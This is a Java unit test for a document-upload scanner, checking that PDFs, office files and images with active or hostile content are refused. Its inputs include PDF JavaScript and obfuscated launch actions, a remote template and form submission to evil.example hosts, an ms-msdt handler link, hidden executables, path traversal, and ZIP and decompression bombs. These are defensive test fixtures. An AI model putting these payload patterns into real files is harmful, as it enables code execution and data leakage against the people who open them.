package io.caseledger.shared.web;

import static java.nio.charset.StandardCharsets.ISO_8859_1;
import static java.nio.charset.StandardCharsets.UTF_8;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import io.caseledger.shared.Spec;
import io.caseledger.shared.contract.Rejection;
import io.caseledger.shared.contract.Violation;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Map;
import java.util.stream.Stream;
import java.util.zip.DeflaterOutputStream;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.encryption.AccessPermission;
import org.apache.pdfbox.pdmodel.encryption.StandardProtectionPolicy;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import reactor.core.publisher.Mono;

/** What a file may not do to whoever opens it, nor to the service that looks into it. Files made for it, one for each way. */
@Spec("COE0510-02")
class FileContentTest {
    private static final FileContent CONTENT = new FileContent();
    private static final Duration SECONDS = Duration.ofSeconds(25);
    private static final String RUNS = "shared.FileHoldsNoMacros";
    private static final String CARRIES = "shared.FileHoldsNoOtherFiles";
    private static final String FETCHES = "shared.FileLoadsNothingFromElsewhere";
    private static final String BEYOND = "shared.FileCanBeExamined";
    private static final int MB = 1024 * 1024;

    @TempDir
    private Path folder;

    @AfterAll
    static void end() {
        CONTENT.destroy();
    }

    static Stream<Arguments> refused() {
        var docx = SampleFiles.ooxml("wordprocessingml.document.main+xml", "word/document.xml");
        var odt = SampleFiles.openDocument("text");
        return Stream.of(
                // what a PDF would do
                Arguments.of(RUNS, "open action", object("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>")),
                Arguments.of(RUNS, "a script by its key alone", object("/AA << /O << /S /Foo /JS (x) >> >>")),
                Arguments.of(RUNS, "launch, its name written otherwise", object("/A << /S /L#61unch /F (cmd.exe) >>")),
                Arguments.of(RUNS, "XFA form", object("/AcroForm << /XFA 3 0 R >>")),
                Arguments.of(RUNS, "film", object("/Subtype /Movie")),
                Arguments.of(CARRIES, "attachment", object("/Names << /EmbeddedFiles << /Names [(a.exe) 3 0 R] >> >>")),
                Arguments.of(CARRIES, "attachment on a page", object("/Subtype /FileAttachment /FS 3 0 R")),
                Arguments.of(CARRIES, "file specification", object("/Type /Filespec /EF << /F 3 0 R >>")),
                Arguments.of(
                        FETCHES, "another document", object("/A << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) >>")),
                Arguments.of(FETCHES, "a form sent away", object("/A << /S /SubmitForm /F (http://evil.example) >>")),
                Arguments.of(RUNS, "packed", packed("5 0 << /S /JavaScript >>", "")),
                Arguments.of(
                        RUNS,
                        "packed, of no type",
                        packed("5 0 << /S /JavaScript >>", "").replaceFirst("/Type /ObjStm", "")),
                Arguments.of(BEYOND, "packed twice", packed("x", "[/FlateDecode /FlateDecode]")),
                Arguments.of(BEYOND, "packed another way", packed("x", "/LZWDecode")),
                Arguments.of(BEYOND, "packed by reference", packed("x", "9 0 R")),
                Arguments.of(BEYOND, "a bomb", packed(" ".repeat(60 * MB), "")),
                Arguments.of(BEYOND, "a million arrays", object("/A [" + "[]".repeat(1_100_000) + "]")),
                Arguments.of(
                        BEYOND,
                        "a table that claims billions",
                        "%PDF-1.7\n1 0 obj << /Type /XRef /W [0 0 0] /Size 2000000000 /Length 0 >> stream\n\nendstream endobj"
                                + "\nstartxref\n9\n%%EOF\n"),
                // what shows nothing, or more than anybody can look at
                Arguments.of("shared.FileIsReadable", "head alone", "%PDF-1.7\n%%EOF\n"),
                Arguments.of(
                        "shared.FileIsReadable",
                        "catalog without pages",
                        "%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n%%EOF\n"),
                Arguments.of("shared.FileIsReadable", "no page", tree("<< /Type /Pages /Kids [] /Count 0 >>")),
                Arguments.of("shared.FileIsReadable", "no tree of pages", tree("[ 91 0 R ]")),
                Arguments.of(
                        "shared.FileIsReadable", "pages in a ring", tree("<< /Type /Pages /Kids [90 0 R] /Count 1 >>")),
                Arguments.of(
                        "shared.FileIsReadable", "pages that are not there", tree("<< /Type /Pages /Kids [99 0 R] >>")),
                Arguments.of("shared.PagesAreNotTooLarge", "wide page", page("/MediaBox [0 0 14401 842]")),
                Arguments.of(
                        "shared.PagesAreNotTooLarge", "high page, upside down", page("/MediaBox [0 0 595 -99999]")),
                Arguments.of(
                        "shared.PagesAreNotTooLarge",
                        "page of large units",
                        page("/MediaBox [0 0 595 842] /UserUnit 100")),
                Arguments.of("shared.FileIsNotEncrypted", "encrypted PDF", new String(encryptedPdf(), ISO_8859_1)),
                // what an office document would do
                Arguments.of(
                        FETCHES,
                        "template from elsewhere",
                        bytes(related(docx, "attachedTemplate", "http://evil.example/t.dotm"))),
                Arguments.of(
                        FETCHES, "picture from elsewhere", bytes(related(docx, "image", "https://evil.example/1.png"))),
                Arguments.of(FETCHES, "link to a share", bytes(related(docx, "hyperlink", "file://evil/share"))),
                Arguments.of(FETCHES, "link to a handler", bytes(related(docx, "hyperlink", "ms-msdt:/id x"))),
                Arguments.of(
                        FETCHES,
                        "other workbook",
                        bytes(SampleFiles.with(docx, "xl/externalLinks/externalLink1.xml", xml("<x/>")))),
                Arguments.of(
                        RUNS,
                        "program that is called a picture",
                        bytes(SampleFiles.with(docx, "word/media/image1.png", SampleFiles.exe()))),
                Arguments.of(
                        RUNS,
                        "OLE that is called a picture",
                        bytes(SampleFiles.with(docx, "word/media/image1.emf", new byte[] {
                            (byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, 0
                        }))),
                Arguments.of(
                        RUNS,
                        "macros in a document within",
                        bytes(SampleFiles.with(
                                docx,
                                "word/embeddings/a.docx",
                                SampleFiles.with(docx, "word/vbaProject.bin", new byte[1])))),
                Arguments.of(
                        "shared.FileTypeIsAllowed",
                        "archive within",
                        bytes(SampleFiles.with(
                                docx, "word/embeddings/a.zip", SampleFiles.zip(Map.of("a.txt", new byte[1]))))),
                Arguments.of(BEYOND, "documents without end", bytes(nested(docx, 4))),
                Arguments.of(BEYOND, "ZIP bomb", bytes(SampleFiles.with(docx, "word/big.xml", new byte[300 * MB]))),
                Arguments.of(
                        BEYOND,
                        "XML without end",
                        bytes(SampleFiles.with(docx, "_rels/.rels", xml("<a>".repeat(2_000))))),
                Arguments.of(
                        "shared.FileIsReadable",
                        "XML that is none",
                        bytes(SampleFiles.with(docx, "word/_rels/document.xml.rels", xml("<Relationships><")))),
                Arguments.of(
                        "shared.FileIsReadable",
                        "one name twice",
                        bytes(SampleFiles.with(docx, "WORD/document.xml", xml("<x/>")))),
                Arguments.of(
                        "shared.FileIsReadable",
                        "a way out",
                        bytes(SampleFiles.with(docx, "../../evil.xml", xml("<x/>")))),
                Arguments.of(
                        FETCHES,
                        "ODF picture from elsewhere",
                        bytes(
                                SampleFiles.with(
                                        odt,
                                        "content.xml",
                                        xml(
                                                "<d xmlns:x='http://www.w3.org/1999/xlink'><image x:href='http://evil.example/1.png'/></d>")))),
                Arguments.of(
                        RUNS,
                        "ODF that listens",
                        bytes(SampleFiles.with(
                                odt,
                                "content.xml",
                                xml("<d xmlns:s='urn:s'><s:event-listener s:name='dom:load'/></d>")))),
                // pictures that unpack to gigabytes
                Arguments.of("shared.PicturesAreNotTooLarge", "PNG", bytes(SampleFiles.png(39_000, 39_000))),
                Arguments.of("shared.PicturesAreNotTooLarge", "JPEG", bytes(SampleFiles.jpeg(65_000, 10))),
                Arguments.of("shared.PicturesAreNotTooLarge", "TIFF", bytes(SampleFiles.tiff(100_000, 1))),
                Arguments.of(
                        "shared.FileIsReadable",
                        "cut short",
                        bytes(SampleFiles.png()).substring(0, 18)));
    }

    @ParameterizedTest(name = "{index} {1}: {0}")
    @MethodSource("refused")
    @Timeout(60)
    void givenAFileThatWouldHurt_whenLookedAt_thenRefusedWithTheReason(String rule, String what, String content) {
        var refused = catchThrowableOfType(
                Rejection.class, () -> look(content.getBytes(ISO_8859_1)).block(SECONDS));

        assertThat(refused).as(what).isNotNull();
        assertThat(refused.details().violations())
                .extracting(Violation::rule)
                .as(what)
                .containsExactly(rule);
    }

    static Stream<Arguments> accepted() {
        var docx = SampleFiles.ooxml("wordprocessingml.document.main+xml", "word/document.xml");
        return Stream.of(
                Arguments.of(
                        "link that somebody clicks",
                        related(docx, "hyperlink", "https://www.trade.gov.tw/"),
                        FileType.DOCX),
                Arguments.of(
                        "chart's data",
                        SampleFiles.with(
                                docx, "word/embeddings/data.xlsx", SampleFiles.ooxml("spreadsheetml.sheet.main+xml")),
                        FileType.DOCX),
                Arguments.of("ordinary PDF", ordinaryPdf(), FileType.PDF),
                Arguments.of(
                        "PDF with a web link",
                        object("/A << /S /URI /URI (https://www.trade.gov.tw/) >>")
                                .getBytes(ISO_8859_1),
                        FileType.PDF),
                Arguments.of(
                        "PDF with packed objects",
                        packed("5 0 << /Type /Page >>", "").getBytes(ISO_8859_1),
                        FileType.PDF),
                Arguments.of("scan of an A4 at 1200 dpi", SampleFiles.jpeg(9_921, 14_031), FileType.JPEG));
    }

    @ParameterizedTest(name = "{index} {0}")
    @MethodSource("accepted")
    void givenAnOrdinaryFile_whenLookedAt_thenItsType(String what, byte[] content, FileType type) {
        assertThat(look(content).block(SECONDS)).as(what).isEqualTo(type);
    }

    /** It kept a thread busy for minutes: each header was searched for a stream, and each found one. */
    @Test
    @Timeout(60)
    void givenSeventeenMegabytesOfStreamHeaders_whenLookedAt_thenAnsweredWithinSecondsWhileOthersPass() {
        var header = "1 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >> stream\n";
        var attack = ("%PDF-1.7\n" + header.repeat(17 * MB / header.length())).getBytes(ISO_8859_1);
        var began = System.nanoTime();

        var busy = look(attack)
                .map(FileType::name)
                .onErrorResume(
                        Rejection.class,
                        refused -> Mono.just(
                                refused.details().violations().getFirst().rule()))
                .toFuture();
        var other = look(ordinaryPdf()).block(SECONDS);

        assertThat(other).isEqualTo(FileType.PDF);
        assertThat(busy.join()).isEqualTo(BEYOND);
        assertThat(Duration.ofNanos(System.nanoTime() - began)).isLessThan(Duration.ofSeconds(20));
    }

    private Mono<FileType> look(byte[] content) {
        try {
            return CONTENT.typeOf(Files.write(Files.createTempFile(folder, "sent", ""), content));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static String tree(String root) {
        return bytes(SampleFiles.pdfOf(root));
    }

    private static String page(String entries) {
        return bytes(SampleFiles.pdfOf(
                "<< /Type /Pages /Kids [91 0 R] /Count 1 >>",
                "91 0 obj\n<< /Type /Page /Parent 90 0 R " + entries + " >>\nendobj"));
    }

    private static String object(String entries) {
        return bytes(SampleFiles.pdf("2 0 obj\n<< " + entries + " >>\nendobj"));
    }

    /** An object stream that holds the text. */
    private static String packed(String text, String filter) {
        var out = new ByteArrayOutputStream();
        try (var deflated = new DeflaterOutputStream(out)) {
            deflated.write(text.getBytes(ISO_8859_1));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return object("/Pages 4 0 R")
                .replace(
                        "%%EOF",
                        "7 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter "
                                + (filter.isEmpty() ? "/FlateDecode" : filter)
                                + " /Length " + out.size() + " >>\nstream\r\n" + out.toString(ISO_8859_1)
                                + "\nendstream\nendobj\n%%EOF");
    }

    private static byte[] ordinaryPdf() {
        try (var document = new PDDocument()) {
            document.addPage(new PDPage());
            return saved(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] encryptedPdf() {
        try (var document = new PDDocument()) {
            document.addPage(new PDPage());
            document.protect(new StandardProtectionPolicy("owner", "", new AccessPermission()));
            return saved(document);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    private static byte[] saved(PDDocument document) throws IOException {
        var out = new ByteArrayOutputStream();
        document.save(out);
        return out.toByteArray();
    }

    private static byte[] related(byte[] office, String type, String target) {
        return SampleFiles.with(
                office,
                "word/_rels/document.xml.rels",
                xml(
                        "<Relationships><Relationship Id='1' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                                + type + "' TargetMode='External' Target='" + target + "'/></Relationships>"));
    }

    private static byte[] nested(byte[] office, int depth) {
        var inner = office;
        for (int i = 0; i < depth; i++) {
            inner = SampleFiles.with(office, "word/embeddings/a.docx", inner);
        }
        return inner;
    }

    private static byte[] xml(String text) {
        return text.getBytes(UTF_8);
    }

    private static String bytes(byte[] content) {
        return new String(content, ISO_8859_1);
    }
}
